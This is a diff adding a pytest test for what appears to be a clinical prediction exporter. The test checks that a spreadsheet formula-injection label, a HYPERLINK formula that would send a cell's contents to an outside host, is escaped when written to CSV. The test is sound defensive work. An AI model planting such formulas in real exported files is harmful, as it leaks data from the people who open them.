@@ -98,6 +98,18 @@ def test_a_table_of_other_columns_is_not_written_to(url: str) -> None:
         write(url, "visits", NUMBERS, 1)
 
 
+def test_a_class_of_another_hospital_is_no_formula_here(tmp_path: Path) -> None:
+    """The csv is opened by a spreadsheet, which would run it."""
+    label = '=HYPERLINK("http://elsewhere/"&A2)'
+    entries = [{"id": "7", "label": label, "probabilities": {label: 0.75}}]
+    path = tmp_path / "scores.csv"
+    target = target_of(str(path), predictions_url=None)
+    write_predictions(entries, target, model_id=4, made=MADE)
+    with path.open() as file:
+        (row,) = csv.DictReader(file)
+    assert row["label"] == f"'{label}"
+
+
 def test_files_are_whole_and_their_owner_s(tmp_path: Path) -> None:
     for name in ("scores.csv", "scores.json"):
         path = tmp_path / name
